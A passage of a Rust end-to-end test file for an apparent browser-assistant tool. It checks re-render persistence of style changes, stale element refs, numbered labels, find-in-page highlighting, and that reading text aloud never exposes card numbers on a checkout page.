        let out = call.call_tool(name, args).await?;
        ensure!(!failed(&out), "{name} failed: {out}");
    }
    let look = wait_renders(&s, 4).await?;
    let want = json!({ "app": "rgb(12, 34, 120)", "card": "rgb(12, 34, 120)", "note": "rgb(255, 230, 0)", "noteSize": "24px",
        "save": "rgb(200, 0, 0)", "share": "rgb(200, 0, 0)" });
    for (k, v) in want.as_object().unwrap() {
        ensure!(&look[k] == v, "after re-renders {k} is {} (want {v}); the page: {look}", look[k]);
    }
    ensure!(
        look["saveSize"].as_str().is_some_and(|v| v.starts_with("33")),
        "the Save button's text is {} after large (22px) and 150% zoom",
        look["saveSize"]
    );
    // What the person sees, not just the DOM: the screenshot shows the new background.
    settle().await;
    let shot = s.browser.keep_screenshot("spa-after-rerenders").await?;
    let share = shot.share_of([12, 34, 120], 3);
    ensure!(share > 0.5, "only {:.0}% of the screen shows the new background after re-renders", share * 100.0);
    let url = s.browser.eval("return location.href").await?;
    let stats = s.browser.ext_eval(&format!("return await (globalThis.browser ?? chrome).runtime.sendMessage({{ type: 'hark.pageCommand', url: {url}, command: {{ op: 'stats' }} }});")).await?;
    println!("keeping 4 changes through re-renders: {}", stats["keep"]);
    // Undo the zoom only: text shrinks back and stays so; the other changes stay.
    let out = call.call_tool("undo", json!({})).await?;
    ensure!(!failed(&out) && out.contains("zoomText"), "undo gave {out}");
    let look = wait_renders(&s, 3).await?;
    ensure!(
        look["noteSize"] == json!("16px") && look["note"] == json!("rgb(255, 230, 0)"),
        "after undo and re-renders: {look}"
    );
    // Reset: the page's own look, exactly, and re-renders do not bring anything back.
    let out = call.call_tool("resetPage", json!({})).await?;
    ensure!(!failed(&out), "resetPage gave {out}");
    let look = wait_renders(&s, 3).await?;
    for k in ["app", "card", "note", "noteSize", "save", "saveSize", "share", "appStyle"] {
        ensure!(
            look[k] == original[k],
            "after reset and re-renders {k} is {} (the page's own: {})",
            look[k],
            original[k]
        );
    }
    s.stop().await;
    Ok(())
}

/// Refs name elements, not positions: after the page replaced an element its ref is stale (an
/// error output, nothing clicked), refs of elements that stayed still work, labels find the new one.
async fn refs_of_re_rendered_elements_are_stale_and_labels_still_work(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/t/spa.html").await?;
    let call = s.start_hark().await?;
    let snap = call.call_tool("getPageHTML", json!({})).await?;
    let save = ref_named(&snap, "Save").with_context(|| format!("no ref for Save in {snap}"))?;
    let home = ref_named(&snap, "Home").with_context(|| format!("no ref for Home in {snap}"))?;
    wait_renders(&s, 2).await?;
    let out = call.call_tool("click", json!({ "target": save })).await?;
    ensure!(
        failed(&out) && out.contains("stale") && out.contains("getPageHTML"),
        "a replaced element's ref gave: {out}"
    );
    ensure!(
        s.browser.eval("return document.body.dataset.saves || '0'").await? == json!("0"),
        "a stale ref clicked something"
    );
    let out = call.call_tool("click", json!({ "target": home })).await?;
    ensure!(!failed(&out), "the ref of an element that stayed failed: {out}");
    ensure!(s.browser.eval("return location.hash").await? == json!("#top"), "the Home link was not followed");
    let out = call.call_tool("click", json!({ "target": "Save" })).await?;
    ensure!(!failed(&out), "click by label after re-renders failed: {out}");
    ensure!(
        s.browser.eval("return document.body.dataset.saves").await? == json!("1"),
        "the label click did not reach the page's Save button"
    );
    s.stop().await;
    Ok(())
}

/// Average color of a screenshot region (viewport px).
fn mean_rgb(img: &pixels::Image, r: &[f64]) -> [f64; 3] {
    let (mut sum, mut n) = ([0.0f64; 3], 0.0f64);
    let (x0, y0) = (r[0].max(0.0) as usize, r[1].max(0.0) as usize);
    let (x1, y1) = (((r[0] + r[2]) as usize).min(img.width), ((r[1] + r[3]) as usize).min(img.height));
    for y in y0..y1 {
        for x in x0..x1 {
            let p = img.at(x, y);
            for c in 0..3 {
                sum[c] += p[c] as f64;
            }
            n += 1.0;
        }
    }
    sum.map(|v| v / n.max(1.0))
}

/// "Show numbers", "click 7", "find …", "read this": on a real page, and never a secret read out.
async fn numbered_labels_find_and_read_aloud(engine: Engine) -> Result<()> {
    let mut s = Stack::start(engine).await?;
    s.open("/corpus/sb-admin-2/buttons.html").await?;
    let call = s.start_hark().await?;
    // Which element a click reaches (links are not followed, so the page stays).
    s.browser.eval("document.addEventListener('click', e => { const a = e.target.closest('a, button'); if (a) { e.preventDefault(); document.body.dataset.clicked = a.textContent.trim(); } }, true); return true;").await?;
    let before = s.browser.keep_screenshot("labels-before").await?;
    let out = call.call_tool("showLabels", json!({})).await?;
    ensure!(!failed(&out) && out.contains("Showing numbers 1"), "showLabels gave {out}");
    settle().await;
    let shown = s.browser.keep_screenshot("labels-shown").await?;
    let pink = |img: &pixels::Image| img.share_of([194, 24, 91], 12);
    ensure!(
        pink(&shown) > 0.002 && pink(&before) < 0.0005,
        "the numbers are not visible on the page ({:.4} of pixels)",
        pink(&shown)
    );
    // The number the answer gives the "Split Button Success" button, said as "click 7".
    let v: Value = serde_json::from_str(&out)?;
    let labels = v["labels"].as_str().unwrap_or("");
    let n = labels
        .split(", ")
        .find(|l| l.contains("Split Button Success") || l.contains("\"Success"))
        .and_then(|l| l.split(' ').next())
        .with_context(|| format!("no number for the Success button in {labels}"))?
        .to_string();
    let out = call.call_tool("click", json!({ "target": n })).await?;
    ensure!(!failed(&out), "click {n} failed: {out}");
    let clicked = s.browser.eval("return document.body.dataset.clicked").await?;
    ensure!(clicked.as_str().is_some_and(|c| c.contains("Success")), "click {n} reached {clicked}");
    let out = call.call_tool("click", json!({ "target": "#999" })).await?;
    ensure!(failed(&out) && out.contains("numbers 1"), "an unknown number gave {out}");
    call.call_tool("showLabels", json!({ "show": false })).await?;
    settle().await;
    ensure!(pink(&s.browser.keep_screenshot("labels-hidden").await?) < 0.0005, "the numbers stayed after hiding them");
    // Find: the count a person would count, the second match highlighted where it is.
    let phrase = "examples below";
    let expected =
        s.browser.eval(&format!("return document.body.innerText.toLowerCase().split({phrase:?}).length - 1")).await?;
    let rect_js = format!(
        r#"const w = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT); let k = 0;
        for (let t = w.nextNode(); t; t = w.nextNode()) {{ const i = t.data.toLowerCase().indexOf({phrase:?}); if (i < 0 || !t.parentElement.checkVisibility()) continue;
          if (++k === 2) {{ const r = document.createRange(); r.setStart(t, i); r.setEnd(t, i + {len}); const b = r.getBoundingClientRect(); return [b.left, b.top, b.width, b.height]; }} }}
        return null;"#,
        len = phrase.len()
    );
    let out = call.call_tool("findText", json!({ "text": phrase, "occurrence": 2 })).await?;
    ensure!(
        !failed(&out) && out.contains(&format!("Found {expected} matches")),
        "findText gave {out} (the page shows it {expected} times)"
    );
    settle().await;
    let rect: Vec<f64> = serde_json::from_value(s.browser.eval(&rect_js).await?)?;
    let lit = mean_rgb(&s.browser.keep_screenshot("find-highlight").await?, &rect);
    call.call_tool("findText", json!({ "text": "" })).await?;
    settle().await;
    let plain = mean_rgb(&s.browser.keep_screenshot("find-cleared").await?, &rect);
    ensure!(
        plain[2] - lit[2] > 60.0 && lit[0] > lit[2] + 60.0,
        "the match is not highlighted on screen: {lit:?} vs {plain:?} without"
    );
    let out = call.call_tool("findText", json!({ "text": "no such words anywhere" })).await?;
    ensure!(failed(&out) && out.contains("not in the visible text"), "a missing text gave {out}");
    // Read aloud: the person's selection, then a section by its heading.
    s.browser.eval("const p = [...document.querySelectorAll('p')].find(p => p.textContent.includes('Google and Facebook')); const r = document.createRange(); r.selectNodeContents(p); getSelection().removeAllRanges(); getSelection().addRange(r); return true;").await?;
    let out = call.call_tool("readText", json!({})).await?;
    ensure!(
        !failed(&out) && out.contains("Google and Facebook buttons are available") && !out.contains("Circle Buttons"),
        "readText of the selection gave {out}"
    );
    let out = call.call_tool("readText", json!({ "target": "Circle Buttons" })).await?;
    ensure!(
        !failed(&out) && out.contains("Use Font Awesome Icons") && !out.contains("Google and Facebook"),
        "readText of a section gave {out}"
    );
    // Nothing secret is ever read out: the whole checkout page, selected or as the page.
    s.open("/t/sensitive.html").await?;
    wait_path(&s, "/sensitive.html").await?;
    s.browser.eval("getSelection().selectAllChildren(document.body); return true;").await?;
    for args in [json!({}), json!({ "target": "page" }), json!({ "target": "Checkout" })] {
        let out = call.call_tool("readText", args.clone()).await?;
        ensure!(!failed(&out) && (out.contains("Pay now") || out.contains("Checkout")), "readText {args} gave {out}");
        for secret in ["SECRET-", "4111111111111111", "4012 8888 8888 1881"] {
            ensure!(!out.contains(secret), "readText {args} reads out {secret}: {out}");
        }
    }
    s.stop().await;
    Ok(())
}
